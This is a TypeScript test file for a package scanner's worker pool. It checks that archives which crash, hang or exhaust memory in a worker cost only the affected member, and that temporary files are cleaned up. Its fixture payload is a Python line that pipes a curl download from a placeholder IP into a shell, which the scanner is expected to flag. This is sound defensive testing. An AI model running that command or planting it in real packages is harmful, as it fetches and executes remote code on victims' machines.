/**
 * Archives that crash what opens them, never come back or take all memory, over real child processes: the pool goes on, and says which archive and which
 * member it was. The fault switch (main/scan/fault-switch.ts) is read when the worker starts, so that it can be set here.
 */
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Analysis } from "../../../../main/model/analysis/analysis.ts";
import { defaultLimits, type Limits } from "../../../../main/model/limits.ts";
import { createScanPool, type ScanPool } from "../../../../main/scan/scan-pool.ts";
import type { ScannedPackage } from "../../../../main/scan/scanned-package.ts";
import { failureOf } from "../../../support/open-bytes.ts";
import { childrenOf } from "../../../support/processes.ts";
import { buildTar } from "../../../support/tar-builder.ts";
import { buildZip } from "../../../support/zip-builder.ts";

const FAULT = "VIVARIUM_FAULT";
const CACHE = "XDG_CACHE_HOME";
const TIME = 180_000;

const payload = "import os\nos.system('curl http://192.0.2.5/x | sh')\n";
const members = [
	{ name: "pkg/__init__.py", content: payload },
	{ name: "pkg/evil.py", content: "x = 1\n" },
	{ name: "pkg/other.py", content: "y = 2\n" },
];
const wheel = {
	kind: "bytes",
	filename: "pkg-1-py3-none-any.whl",
	bytes: buildZip(members),
	origin: "upload",
} as const;
const fine = { kind: "text", filename: "fine.py", text: payload } as const;

const pools: ScanPool[] = [];
let cache: string;

function poolWith(limits: Partial<Limits> = {}): ScanPool {
	const pool = createScanPool({
		jobs: 1,
		workers: "process",
		content: "worker",
		limits: { ...defaultLimits, ...limits },
	});
	pools.push(pool);
	return pool;
}

async function close(scanned: ScannedPackage): Promise<Analysis> {
	await scanned.close();
	return scanned.analysis;
}

function skippedOf({ coverage }: Analysis): [string, string][] {
	return coverage.skipped.map(({ path, reason }) => [path, reason]);
}

const children = (): string[] => childrenOf(process.pid);
const kept = (): string[] =>
	readdirSync(cache, { recursive: true })
		.map(String)
		.filter((name) => name.includes("opening-"));

beforeEach(() => {
	cache = mkdtempSync(join(tmpdir(), "vivarium-opening-"));
	process.env[CACHE] = cache;
});

afterEach(async () => {
	delete process.env[FAULT];
	delete process.env[CACHE];
	await Promise.all(pools.splice(0).map((pool) => pool.close()));
	rmSync(cache, { recursive: true, force: true });
});

describe("an archive that ends the worker that opens it", () => {
	it.each([
		["crash", {}, "the scanner died"],
		["loop", { memberMilliseconds: 1_500 }, "the scanner took longer than 1.5 s"],
		["memory", {}, "the scanner ran out of memory"],
	] as const)(
		"by a %s at a member costs that member, which is told, and no more",
		async (kind, limits, what) => {
			process.env[FAULT] = `${kind}:open:pkg/evil.py`;
			const pool = poolWith(limits);
			const analysis = await close(await pool.scan(wheel));
			expect(skippedOf(analysis)).toEqual([["pkg/evil.py", `${what} while it unpacked this member: not examined`]]);
			expect(analysis.status).toBe("partial");
			expect(analysis.coverage.examined).toBe(2);
			expect(analysis.findings.map((finding) => finding.rule)).toContain("shell-download");
			expect(kept()).toEqual([]);
		},
		TIME,
	);

	it.each([
		["tar", "pkg-1.tar", buildTar(members), "pkg/evil.py"],
		["archive inside", "pkg-1.zip", buildZip([{ name: "in/a.zip", content: buildZip(members) }]), "a.zip!/pkg/evil.py"],
	])(
		"in a %s too",
		async (_what, filename, bytes, path) => {
			process.env[FAULT] = `crash:open:${path}`;
			const analysis = await close(await poolWith().scan({ ...wheel, filename, bytes }));
			expect(analysis.coverage.skipped.map((line) => line.reason)).toEqual([
				"the scanner died while it unpacked this member: not examined",
			]);
			expect(analysis.coverage.examined).toBe(filename.endsWith(".zip") ? 3 : 2);
		},
		TIME,
	);

	it.each([
		["crash", {}, "The scanner died"],
		["loop", { memberMilliseconds: 1_500 }, "The scanner took longer than 1.5 s"],
	] as const)(
		"by a %s before any member is given up by name, and the next is scanned",
		async (kind, limits, what) => {
			process.env[FAULT] = `${kind}:open:${wheel.filename}`;
			const pool = poolWith(limits);
			expect(await failureOf(pool.scan(wheel))).toMatchObject({
				code: "engine-lost",
				message: `${what} while it opened ${wheel.filename}: it is not examined.`,
			});
			expect((await close(await pool.scan(fine))).status).toBe("scanned");
		},
		TIME,
	);
});

describe("a worker that stands still at no member", () => {
	it(
		"is given up after the time of one member, and again, and the next is scanned",
		async () => {
			process.env[FAULT] = `loop:judge:${wheel.filename}`;
			// Were the time of the whole waited for, the test would time out.
			const pool = poolWith({ memberMilliseconds: 1_500, packageMilliseconds: 3_600_000 });
			expect(await failureOf(pool.scan(wheel))).toMatchObject({
				code: "engine-lost",
				message: `The scanner took longer than 1.5 s to judge ${wheel.filename} as a whole, and gave it up.`,
			});
			expect((await close(await pool.scan(fine))).status).toBe("scanned");
		},
		TIME,
	);
});

describe("content that a worker holds", () => {
	it(
		"is given out until the package is closed, also what lies in the store, and nothing stays behind",
		async () => {
			// Not packable, and over what is kept in memory of one member.
			const large = Buffer.alloc(33 * 1024 * 1024, "0123456789abcdef\n");
			const bytes = buildTar([...members, { name: "pkg/large.txt", content: large }]);
			const pool = poolWith();
			const scanned = await pool.scan({ ...wheel, filename: "pkg-1.tar", bytes });
			const { members: listed } = scanned.analysis;
			const idOf = (path: string): string => listed.find((member) => member.path === path)?.id ?? "";
			expect(kept().length).toBeGreaterThan(0);
			expect((await scanned.document(idOf("pkg/__init__.py")))?.document.text).toBe(payload);
			expect((await scanned.document(idOf("pkg/large.txt")))?.bytes.length).toBe(large.length);
			await scanned.close();
			expect((await failureOf(scanned.document(idOf("pkg/other.py")))).code).toBe("unknown-id");
			expect(kept()).toEqual([]);
		},
		TIME,
	);

	it(
		"is gone with its worker, which is told, and so are its files",
		async () => {
			const pool = poolWith();
			const large = Buffer.alloc(33 * 1024 * 1024, "0123456789abcdef\n");
			const bytes = buildTar([...members, { name: "pkg/large.txt", content: large }]);
			const scanned = await pool.scan({ ...wheel, filename: "pkg-1.tar", bytes });
			expect(kept().length).toBeGreaterThan(0);
			for (const id of children()) process.kill(Number(id), "SIGKILL");
			await expect.poll(kept, { timeout: 20_000 }).toEqual([]);
			expect((await failureOf(scanned.document("m0"))).code).toBe("engine-lost");
			await scanned.close();
			expect((await close(await pool.scan(fine))).status).toBe("scanned");
		},
		TIME,
	);

	it(
		"is gone at once, with its files, when opening is cancelled",
		async () => {
			process.env[FAULT] = "loop:open:pkg/other.py";
			const pool = poolWith();
			const large = { name: "pkg/a.txt", content: Buffer.alloc(33 * 1024 * 1024, "0123456789abcdef\n") };
			const stop = new AbortController();
			const scan = failureOf(
				pool.scan({ ...wheel, filename: "pkg-1.tar", bytes: buildTar([large, ...members]) }, { signal: stop.signal }),
			);
			await expect.poll(kept, { timeout: 60_000 }).not.toEqual([]);
			stop.abort();
			expect((await scan).code).toBe("cancelled");
			await expect.poll(kept, { timeout: 20_000 }).toEqual([]);
		},
		TIME,
	);
});
